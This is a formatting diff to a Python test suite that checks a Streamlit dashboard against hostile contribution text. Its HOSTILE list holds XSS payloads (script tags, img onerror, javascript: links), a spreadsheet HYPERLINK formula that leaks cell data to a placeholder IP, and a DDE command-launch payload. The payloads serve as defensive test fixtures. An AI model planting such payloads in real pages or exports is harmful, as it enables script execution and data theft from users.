@@ -60,8 +60,9 @@ async def one_run(ws, query: str, page: str) -> tuple[int, dict[str, str], list[
 async def session(base: str, number: int) -> list[tuple]:
     region = REGIONS[number % len(REGIONS)]
     results = []
-    async with websockets.connect(base.replace("http", "ws") + "/_stcore/stream", subprotocols=["streamlit"],
-                                  max_size=None, open_timeout=30) as ws:
+    async with websockets.connect(
+        base.replace("http", "ws") + "/_stcore/stream", subprotocols=["streamlit"], max_size=None, open_timeout=30
+    ) as ws:
         for run in range(RERUNS):
             page = PAGES[(number + run) % len(PAGES)] if run else ""  # every session starts on the Overview
             status, metrics, exceptions = await one_run(ws, f"region={region}", page)
@@ -108,7 +109,7 @@ HOSTILE = [
     "<script>window.__pwned = 1; alert('script')</script>",
     "<img src=x onerror=\"window.__pwned = 1; alert('img')\">",
     "![tracker](http://192.0.2.1/pixel.png) and [a link](javascript:alert('md'))",
-    "=HYPERLINK(\"http://192.0.2.1/leak?\"&A1, \"click\")",
+    '=HYPERLINK("http://192.0.2.1/leak?"&A1, "click")',
     "+cmd|' /C calc'!A0",
     "مرحبا بالعالم — نص من اليمين إلى اليسار، مع English في الوسط",
     "Zalgo z̸̢̛̬a̷͙͒l̴̰̈g̶̣̈́o̵̧͝ and emoji 🌍🏳️‍🌈👩🏽‍💻",
@@ -122,17 +123,29 @@ def hostile_server(tmp_path_factory):
     folder = tmp_path_factory.mktemp("hostile") / "export"
     folder.mkdir()
     n = len(HOSTILE)
-    pq.write_table(pa.table({
-        "contribution_id": [f"h{i}" for i in range(n)], "text": HOSTILE, "question": ["Q1"] * n, "round": [1] * n,
-        "table": ["<b>T1</b>"] * n, "themes": [["healthy_inclusive_communities"]] * n,
-        "direction": [["KE3"]] * n, "region": ["SSA"] * n, "community": ["<img src=x onerror=alert(1)>"] * n,
-    }), folder / "contributions.parquet")
+    pq.write_table(
+        pa.table(
+            {
+                "contribution_id": [f"h{i}" for i in range(n)],
+                "text": HOSTILE,
+                "question": ["Q1"] * n,
+                "round": [1] * n,
+                "table": ["<b>T1</b>"] * n,
+                "themes": [["healthy_inclusive_communities"]] * n,
+                "direction": [["KE3"]] * n,
+                "region": ["SSA"] * n,
+                "community": ["<img src=x onerror=alert(1)>"] * n,
+            }
+        ),
+        folder / "contributions.parquet",
+    )
     with running_server(run_folder() / "server-hostile.log", data=folder) as base:
         yield base
 
 
-@pytest.mark.parametrize("path", ["/", "/themes?theme=healthy_inclusive_communities", "/participation",
-                                  "/present?slides=numbers", "/data"])
+@pytest.mark.parametrize(
+    "path", ["/", "/themes?theme=healthy_inclusive_communities", "/participation", "/present?slides=numbers", "/data"]
+)
 def test_hostile_note_text_runs_nothing_and_loads_nothing(browser, hostile_server, path):
     with browser_visit(browser, hostile_server) as seen:
         dialogs = []
